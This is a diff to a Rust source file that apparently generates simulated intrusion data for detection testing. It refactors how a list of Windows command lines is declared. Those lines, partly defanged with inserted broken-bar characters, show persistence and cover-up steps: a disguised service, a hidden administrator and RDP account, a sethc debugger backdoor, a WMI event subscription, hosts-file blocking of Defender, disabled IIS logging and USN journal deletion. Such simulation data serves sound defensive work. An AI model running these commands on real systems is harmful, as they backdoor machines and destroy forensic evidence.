@@ -1,9 +1,9 @@
 //! How the unseen set's patient intruder comes back: services, values of the registry, an account that no list shows,
 //! consumers of events; and how it covers its way.
 
-use super::night::{POWERSHELL, line, must};
 use crate::attack::aftermath::{RegistryChange, Set};
 use crate::attack::shell::Line;
+use crate::program::POWERSHELL;
 use crate::technique::Technique;
 use crate::truth::Weight;
 
@@ -13,7 +13,7 @@ const REG: &str = "C:\\Windows\\System32\\reg.exe";
 
 /// Lines by which it makes itself at home.
 pub(super) const STAY: [Line; 7] = [
-    must(
+    Line::must(
         Technique::NewService,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"sc cre¦ate BrYNSvc64 binPath= \"C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe -k status\" start= auto DisplayName= \"Brother BidiAgent Service\"\"",
         &[(
@@ -21,7 +21,7 @@ pub(super) const STAY: [Line; 7] = [
             "sc  cre¦ate BrYNSvc64 binPath= \"C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe -k status\" start= auto DisplayName= \"Brother BidiAgent Service\"",
         )],
     ),
-    must(
+    Line::must(
         Technique::NewAccount,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"net user brother_scan Sc4n!2_mail /add /expires:never\"",
         &[
@@ -29,7 +29,7 @@ pub(super) const STAY: [Line; 7] = [
             (NET1, "C:\\Windows\\system32\\net1  user brother_scan Sc4n!2_mail /add /expires:never"),
         ],
     ),
-    must(
+    Line::must(
         Technique::GroupChange,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"net localgroup Administratoren brother_scan /add & net localgroup Remotedesktopbenutzer brother_scan /add\"",
         &[
@@ -38,7 +38,7 @@ pub(super) const STAY: [Line; 7] = [
             (NET, "net  localgroup Remotedesktopbenutzer brother_scan /add"),
         ],
     ),
-    must(
+    Line::must(
         Technique::RegistryChange,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\set¦hc.exe\" /v Deb¦ugger /t REG_SZ /d C:\\Windows\\System32\\cmd.exe /f\"",
         &[(
@@ -46,7 +46,7 @@ pub(super) const STAY: [Line; 7] = [
             "reg  add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\set¦hc.exe\" /v Deb¦ugger /t REG_SZ /d C:\\Windows\\System32\\cmd.exe /f",
         )],
     ),
-    line(
+    Line::cmd(
         Technique::FirewallRule,
         Weight::Supporting,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"netsh advfirewall firewall add rule name=\"Brother Scan\" dir=in action=allow protocol=TCP localport=54925,3389\"",
@@ -62,7 +62,7 @@ pub(super) const STAY: [Line; 7] = [
         command: "powershell.exe -NoP -c \"$f=Set-WmiInst¦ance -Class __Event¦Filter -Namespace root\\subscription -Arguments @{Name='BrStatusMon';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query='SELECT * FROM __InstanceModificationEvent WITHIN 3600 WHERE TargetInstance ISA ''Win32_LocalTime'' AND TargetInstance.Hour=23'};$c=Set-WmiInst¦ance -Class CommandLineEvent¦Consumer -Namespace root\\subscription -Arguments @{Name='BrStatusMon';CommandLineTemplate='C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe -w'};Set-WmiInst¦ance -Class __FilterToConsumer¦Binding -Namespace root\\subscription -Arguments @{Filter=$f;Consumer=$c}\"",
         programs: &[],
     },
-    must(
+    Line::must(
         Technique::HostsChange,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"(echo 0.0.0.0 wdcp.microsoft.com&echo 0.0.0.0 wdcpalt.microsoft.com)>>C:\\Windows\\System32\\drivers\\etc\\ho¦sts\"",
         &[],
@@ -144,7 +144,7 @@ pub(super) const AT_START: [(&str, &str); 2] = [
 
 /// How it covers its way: the web server writes no more, the journal of the file system goes, the command log is emptied.
 pub(super) const COVER: [Line; 3] = [
-    must(
+    Line::must(
         Technique::AuditPolicy,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\System32\\inetsrv\\appcmd.exe set config \"Default Web Site\" /section:http¦Logging /dont¦Log:true /commit:apphost\"",
         &[(
@@ -152,7 +152,7 @@ pub(super) const COVER: [Line; 3] = [
             "C:\\Windows\\System32\\inetsrv\\appcmd.exe  set config \"Default Web Site\" /section:http¦Logging /dont¦Log:true /commit:apphost",
         )],
     ),
-    must(
+    Line::must(
         Technique::LogDeletion,
         "\"C:\\Windows\\System32\\cmd.exe\" /c \"fsu¦til usn delete¦journal /d c:\"",
         &[("C:\\Windows\\System32\\fsutil.exe", "fsu¦til  usn delete¦journal /d c:")],
